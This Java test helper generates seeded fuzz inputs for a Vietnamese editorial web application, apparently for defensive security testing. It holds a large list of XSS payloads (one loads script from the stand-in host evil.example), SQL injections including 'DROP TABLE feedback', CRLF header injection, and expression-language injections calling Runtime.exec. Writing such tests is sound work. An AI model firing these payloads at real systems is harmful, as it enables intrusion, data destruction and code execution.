package vn.angiang.editorial.security;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;

/**
 * Hostile values for every input of the application, made from a seed: the same seed gives the same
 * values in the same order, so a failure can be replayed ({@code -Dhostile.seed=...}). Each stream
 * of values (one per door tried) has its own numbers, {@code stream × 1000} upwards, and its own
 * random sequence, so running one test alone gives it the same values as in the whole run.
 *
 * <p>Kinds: random Unicode (astral planes, combining marks, direction overrides, lone surrogates),
 * C0/C1 control characters, huge values, values of the wrong JSON type (numbers, arrays, objects,
 * null, deep nesting), markup and script (tags, event handlers, {@code javascript:} links, SVG/MathML,
 * entity-encoded and mixed-case variants), SQL-like text, expression syntax ({@code ${...}},
 * {@code #{...}}, a dollar sign as a JSON unicode escape) and bytes that are not UTF-8 (overlong, truncated, encoded
 * surrogates). Many values carry {@link #PROBE}: evaluated anywhere with access to the application's
 * beans, it would create {@link #PROBE_TABLE}; the SQL-like values would create {@link #SQL_PROBE_TABLE}.
 */
final class HostileInputs {

    static final String SEED_PROPERTY = "hostile.seed";
    static final long DEFAULT_SEED = 20_251_202L;

    static final String PROBE_TABLE = "fuzz_probe";
    static final String SQL_PROBE_TABLE = "fuzz_probe_sql";
    static final String PROBE = "${jdbcClient.sql('create table " + PROBE_TABLE + "(x int)').update()}";

    enum Kind { UNICODE, CONTROL, HUGE, WRONG_TYPE, MARKUP, SQL, EXPRESSION, INVALID_UTF8 }

    /**
     * One hostile value, numbered in the run. Exactly one of {@code text} (a Java string, which may hold
     * lone surrogates), {@code json} (a JSON value of the wrong type, as JSON text) and {@code bytes}
     * (bytes that are not UTF-8) is set.
     */
    record Input(int index, Kind kind, String text, String json, byte[] bytes) {

        boolean isText() {
            return text != null;
        }

        /** The value as text wherever a text is all that can be sent (a header, a form field). */
        String asText() {
            return text != null ? text : json != null ? json : new String(bytes, StandardCharsets.ISO_8859_1);
        }

        /** For failure messages: printable ASCII as it is, everything else escaped, long values cut. */
        String describe() {
            String shown = text != null ? escape(text) : json != null ? escape(json) : hex(bytes);
            int length = text != null ? text.length() : json != null ? json.length() : bytes.length;
            String cut = shown.length() > 160 ? shown.substring(0, 160) + "…" : shown;
            return "#" + index + " " + kind + " (" + length + (bytes != null ? " bytes" : " chars") + "): " + cut;
        }
    }

    private final int base;
    private final Random random;
    private int count;

    private HostileInputs(long seed, int stream) {
        this.base = stream * 1000;
        this.random = new Random(seed * 1_000_003L + stream);
    }

    static long seed() {
        return Long.getLong(SEED_PROPERTY, DEFAULT_SEED);
    }

    /** The values of one stream; {@code stream} numbers them. */
    static HostileInputs stream(int stream) {
        return new HostileInputs(seed(), stream);
    }

    /** The random sequence of this stream, also for where a value is put and what is sent with it. */
    Random random() {
        return random;
    }

    boolean chance(double probability) {
        return random.nextDouble() < probability;
    }

    <T> T pick(List<T> options) {
        return options.get(random.nextInt(options.size()));
    }

    /** The next value; the kinds take turns, so every door gets every kind. */
    Input next() {
        return next(Kind.values()[count % Kind.values().length]);
    }

    Input next(Kind kind) {
        int index = base + count++;
        return switch (kind) {
            case WRONG_TYPE -> new Input(index, kind, null, wrongType(), null);
            case INVALID_UTF8 -> new Input(index, kind, null, null, invalidUtf8());
            default -> new Input(index, kind, withProbe(kind, text(kind)), null, null);
        };
    }

    /** A text value of a text kind. */
    String text(Kind kind) {
        return switch (kind) {
            case UNICODE -> unicode();
            case CONTROL -> control();
            case HUGE -> huge();
            case MARKUP -> markup();
            case SQL -> sql();
            case EXPRESSION -> expression();
            default -> throw new IllegalArgumentException(kind + " is not a text");
        };
    }

    private String withProbe(Kind kind, String text) {
        return kind != Kind.HUGE && kind != Kind.EXPRESSION && chance(0.12) ? text + " " + PROBE : text;
    }

    // --- Unicode -------------------------------------------------------------------------------

    private static final List<String> VIETNAMESE = List.of("Phản ánh", "đường ngập nước", "Ủy ban nhân dân xã",
            "Trạm y tế", "Nguyễn Thị Ánh", "Long Xuyên", "kiến nghị", "học phí", "Châu Đốc", "giấy chứng nhận");

    private static final List<String> ODD_CHARACTERS = List.of(
            "\u202E", "\u202D", "\u202A", "\u2066", "\u2067", "\u2069", "\u200B", "\u200D", "\u200E", "\u200F",
            "\uFEFF", "\uFFFE", "\uFFFF", "\uFFFD", "\u2028", "\u2029", "\u00AD", "\u061C", "\uFDD0", "\u00A0",
            "\uD800", "\uDBFF", "\uDC00", "\uDFFF", "\uDC00\uD800", "\uD83D", "\uDE00",
            "\uD83D\uDE00", "\uD840\uDF0E", "\uD835\uDD4F", "\uDB40\uDC01", "\uDBFF\uDFFD",
            "e\u0302\u0301", "a\u0306\u0323", "\uFF1Cscript\uFF1E", "\u0130", "\u00DF", "\uFB00", "\u1E9E",
            "\u0000", "\u0085");

    private String unicode() {
        StringBuilder text = new StringBuilder();
        int parts = 1 + random.nextInt(6);
        for (int i = 0; i < parts; i++) {
            switch (random.nextInt(6)) {
                case 0 -> text.append(pick(VIETNAMESE)).append(' ');
                case 1 -> text.append(pick(ODD_CHARACTERS));
                case 2 -> text.appendCodePoint(codePoint(0x1F300, 0x1FAFF)).appendCodePoint(codePoint(0x20000, 0x2A6DF));
                case 3 -> {
                    text.append((char) ('a' + random.nextInt(26)));
                    int marks = 1 + random.nextInt(40);
                    for (int m = 0; m < marks; m++) {
                        text.append((char) codePoint(0x0300, 0x036F));
                    }
                }
                case 4 -> text.appendCodePoint(pick(List.of(codePoint(0xE0000, 0xE007F), codePoint(0xF0000, 0xFFFFD),
                        codePoint(0x100000, 0x10FFFD), codePoint(0x1EA0, 0x1EF9), codePoint(0x0590, 0x06FF))));
                default -> text.append(pick(ODD_CHARACTERS)).append(pick(VIETNAMESE)).append(pick(ODD_CHARACTERS));
            }
        }
        return text.toString();
    }

    private int codePoint(int from, int to) {
        return from + random.nextInt(to - from + 1);
    }

    // --- control characters --------------------------------------------------------------------

    private String control() {
        StringBuilder text = new StringBuilder(pick(VIETNAMESE));
        int controls = 1 + random.nextInt(4);
        for (int i = 0; i < controls; i++) {
            int at = random.nextInt(text.length() + 1);
            String control = switch (random.nextInt(6)) {
                case 0 -> String.valueOf((char) random.nextInt(0x20));
                case 1 -> String.valueOf((char) (0x80 + random.nextInt(0x20)));
                case 2 -> "\u007F";
                case 3 -> "\u0000";
                case 4 -> "\r\nX-Injected: 1\r\n\r\n";
                default -> "\u001B[2J\u001B[31m";
            };
            text.insert(at, control);
        }
        return text.toString();
    }

    // --- huge ----------------------------------------------------------------------------------

    private static final List<Integer> SIZES = List.of(201, 256, 301, 1_001, 2_001, 4_001, 8_001, 10_001, 65_537,
            100_001, 200_000);
    private static final List<String> HUGE_PIECES = List.of("A", "ệ", "\uD83D\uDE00", "a\u0301", " ", "\n", "<",
            "${", "'", "&amp;", "Đường ", "\u202E");

    private String huge() {
        int size = pick(SIZES);
        String piece = pick(HUGE_PIECES);
        StringBuilder text = new StringBuilder(size + 8).append(pick(VIETNAMESE)).append(' ');
        while (text.length() < size) {
            text.append(piece);
        }
        return text.toString();
    }

    // --- wrong JSON types ----------------------------------------------------------------------

    private static final List<String> WRONG_TYPES = List.of("0", "-1", "1e400", "-0.0", "1.0E-400",
            "123456789012345678901234567890", "9223372036854775808", "true", "false", "null", "[]", "{}",
            "[\"a\",\"b\"]", "[null]", "[{\"a\":1}]", "{\"value\":\"x\"}", "{\"$ne\":null}",
            "{\"__proto__\":{\"polluted\":1}}", "{\"title\":1,\"summary\":[],\"body\":{}}", "\"\"", "\"   \"",
            "\"{\\\"title\\\":1}\"", "[1,2,3]", "{\"a\":{\"b\":{\"c\":[true,false,null]}}}");

    private String wrongType() {
        return switch (random.nextInt(5)) {
            case 0 -> nestedArrays(pick(List.of(9, 64, 999, 1_001, 5_000)));
            case 1 -> nestedObjects(pick(List.of(9, 64, 999, 1_001, 3_000)));
            case 2 -> longArray(pick(List.of(100, 10_000)));
            default -> pick(WRONG_TYPES);
        };
    }

    private static String nestedArrays(int depth) {
        return "[".repeat(depth) + "]".repeat(depth);
    }

    private static String nestedObjects(int depth) {
        return "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
    }

    private static String longArray(int length) {
        return "[" + "1,".repeat(length - 1) + "1]";
    }

    // --- markup --------------------------------------------------------------------------------

    private static final List<String> MARKUP = List.of(
            "<script>alert(1)</script>",
            "<script src=//evil.example/x.js></script>",
            "<script/src=data:,alert(1)>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"x\" onerror=\"alert(document.cookie)\">",
            "<img src=x:alert(alt) onerror=eval(src) alt=0>",
            "<svg onload=alert(1)>",
            "<svg/onload=alert(1)//",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"0\" y=\"20\">x</text></a></svg>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<math href=\"javascript:alert(1)\">x</math>",
            "<a href=\"javascript:alert(1)\">bấm vào đây</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<a href=\"java\nscript:alert(1)\">x</a>",
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
            "<a href=\" javascript:alert(1)\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=\"javascript:alert(1)\"></object>",
            "<embed src=javascript:alert(1)>",
            "<style>*{background:url(javascript:alert(1))}</style>",
            "<div style=\"width:expression(alert(1))\">x</div>",
            "<p style=\"background:url('javascript:alert(1)')\">x</p>",
            "<!--<img src=x onerror=alert(1)>-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?xml version=\"1.0\"?><x onload=\"alert(1)\"/>",
            "<base href=\"//evil.example/\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "<form action=javascript:alert(1)><button>gửi</button></form>",
            "<details open ontoggle=alert(1)>",
            "<body onload=alert(1)>",
            "\"><script>alert(1)</script>",
            "'><img src=x onerror=alert(1)>",
            "</textarea><script>alert(1)</script>",
            "</title><script>alert(1)</script>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<template><script>alert(1)</script></template>",
            "<x onclick=alert(1)>bấm</x>",
            "<video><source onerror=\"alert(1)\"></video>",
            "<input autofocus onfocus=alert(1)>",
            "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
            "<<script>script>alert(1)<</script>/script>",
            "<scr<script>ipt>alert(1)</script>",
            "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
            "<img src=\"x`\" onerror=alert(1)>",
            "javascript:alert(1)",
            "\" onerror=\"alert(1)",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "&#x3C;img src=x onerror=alert(1)&#x3E;",
            "&lt;img src=x onerror=alert(1)&gt",
            "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
            "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "<p>Nội dung <u>an toàn</u>, <a href=\"https://angiang.gov.vn\" target=\"_blank\">liên kết</a></p>",
            "<p>Ảnh <img src=\"https://angiang.gov.vn/a.png\" alt=\"ảnh\"></p><svg><desc>x</desc></svg>");

    private String markup() {
        String markup = pick(MARKUP);
        if (chance(0.4)) {
            markup = mixedCase(markup);
        }
        return switch (random.nextInt(3)) {
            case 0 -> markup;
            case 1 -> pick(VIETNAMESE) + " " + markup;
            default -> pick(VIETNAMESE) + " của người dân " + markup + " " + pick(VIETNAMESE);
        };
    }

    /** Letters inside tags in random case: {@code <ScRiPt>}, {@code OnErRoR}. */
    private String mixedCase(String markup) {
        StringBuilder out = new StringBuilder(markup.length());
        boolean inTag = false;
        for (char c : markup.toCharArray()) {
            if (c == '<') {
                inTag = true;
            } else if (c == '>') {
                inTag = false;
            }
            out.append(inTag && c < 0x80 && Character.isLetter(c) && random.nextBoolean()
                    ? (Character.isUpperCase(c) ? Character.toLowerCase(c) : Character.toUpperCase(c)) : c);
        }
        return out.toString();
    }

    // --- SQL-like text -------------------------------------------------------------------------

    private static final List<String> SQL = List.of(
            "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "admin'--", "'; DROP TABLE feedback; --",
            "'); create table " + SQL_PROBE_TABLE + "(x int); --",
            "1; create table " + SQL_PROBE_TABLE + "(x int)",
            "\\'; create table " + SQL_PROBE_TABLE + "(x int); --",
            "$$; create table " + SQL_PROBE_TABLE + "(x int); $$",
            "*/ create table " + SQL_PROBE_TABLE + "(x int) /*",
            "' UNION SELECT pwd_ FROM act_id_user --", "%' AND 1=0 UNION SELECT null --",
            "'||(select version())||'", "1' AND pg_sleep(0)::text='", "E'\\x27'", "%_%", ";--", "\\",
            "PA-AAAAA-AAAAA' OR 'x'='x", "content-1 OR 1=1", "1 OR 1=1", "'", "''", "`", "\u02BC OR 1=1 --");

    private String sql() {
        String sql = pick(SQL);
        return chance(0.5) ? sql : pick(VIETNAMESE) + " " + sql;
    }

    // --- expressions ---------------------------------------------------------------------------

    private static final List<String> EXPRESSIONS = List.of(
            PROBE,
            "#{jdbcClient.sql('create table " + PROBE_TABLE + "(x int)').update()}",
            "\\u0024{jdbcClient.sql('create table " + PROBE_TABLE + "(x int)').update()}",
            "$\\{jdbcClient.sql('create table " + PROBE_TABLE + "(x int)').update()}",
            "${execution.setVariable('submissionId', 1)}",
            "${''.getClass().forName('java.lang.Runtime')}",
            "#{T(java.lang.Runtime).getRuntime().exec('id')}",
            "${processEngine.identityService.createUserQuery().list()}",
            "${workingDays.fromNow(-1)}", "${publishItem}", "${jdbcClient}", "${7*7}", "#{7*7}", "{{7*7}}",
            "{{requesterName}}", "<%= 7*7 %>", "%{7*7}", "${{7*7}}", "=jdbcClient", "${", "#{", "}",
            "${\"" + PROBE + "\"}");

    private String expression() {
        String expression = pick(EXPRESSIONS);
        return chance(0.5) ? expression : pick(VIETNAMESE) + " " + expression + " " + pick(VIETNAMESE);
    }

    // --- bytes that are not UTF-8 --------------------------------------------------------------

    private static final List<byte[]> NOT_UTF8 = List.of(
            bytes(0xC0, 0xAF), bytes(0xC1, 0xBF), bytes(0xE0, 0x80, 0xAF), bytes(0xF0, 0x80, 0x80, 0xAF),
            bytes(0xF8, 0x88, 0x80, 0x80, 0x80), bytes(0xFC, 0x84, 0x80, 0x80, 0x80, 0x80),
            bytes(0xED, 0xA0, 0x80), bytes(0xED, 0xBF, 0xBF), bytes(0xED, 0xA0, 0xBD, 0xED, 0xB8, 0x80),
            bytes(0xF4, 0x90, 0x80, 0x80), bytes(0xFE), bytes(0xFF), bytes(0x80), bytes(0xBF), bytes(0xE1, 0x80),
            bytes(0xC3), bytes(0xF0, 0x9F, 0x98),
            // overlong "<script>" and "${": a decoder that accepted them would let markup or an expression through
            concat(bytes(0xC0, 0xBC), "script".getBytes(StandardCharsets.US_ASCII), bytes(0xC0, 0xBE)),
            concat(bytes(0xE0, 0x80, 0xBC), "img src=x onerror=alert(1)".getBytes(StandardCharsets.US_ASCII),
                    bytes(0xE0, 0x80, 0xBE)),
            concat(bytes(0xC0, 0xA4, 0xC1, 0xBB), "jdbcClient.sql('create table fuzz_probe(x int)').update()}"
                    .getBytes(StandardCharsets.US_ASCII)));

    private byte[] invalidUtf8() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        if (chance(0.7)) {
            out.writeBytes(pick(VIETNAMESE).getBytes(StandardCharsets.UTF_8));
        }
        int fragments = 1 + random.nextInt(3);
        for (int i = 0; i < fragments; i++) {
            out.writeBytes(pick(NOT_UTF8));
        }
        if (chance(0.5)) {
            out.writeBytes(" nội dung phản ánh của người dân".getBytes(StandardCharsets.UTF_8));
        }
        return out.toByteArray();
    }

    // --- helpers -------------------------------------------------------------------------------

    static byte[] bytes(int... values) {
        byte[] bytes = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            bytes[i] = (byte) values[i];
        }
        return bytes;
    }

    static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    /** Printable ASCII as it is, everything else as {@code \\uXXXX} (so lone surrogates show). */
    static String escape(String text) {
        StringBuilder out = new StringBuilder(Math.min(text.length(), 400));
        for (int i = 0; i < text.length() && out.length() < 400; i++) {
            char c = text.charAt(i);
            if (c >= 0x20 && c < 0x7F && c != '\\') {
                out.append(c);
            } else {
                out.append(String.format("\\u%04X", (int) c));
            }
        }
        return out.toString();
    }

    static String hex(byte[] bytes) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < bytes.length && out.length() < 400; i++) {
            int b = bytes[i] & 0xFF;
            out.append(b >= 0x20 && b < 0x7F && b != '\\' ? String.valueOf((char) b) : String.format("\\x%02X", b));
        }
        return out.toString();
    }
}
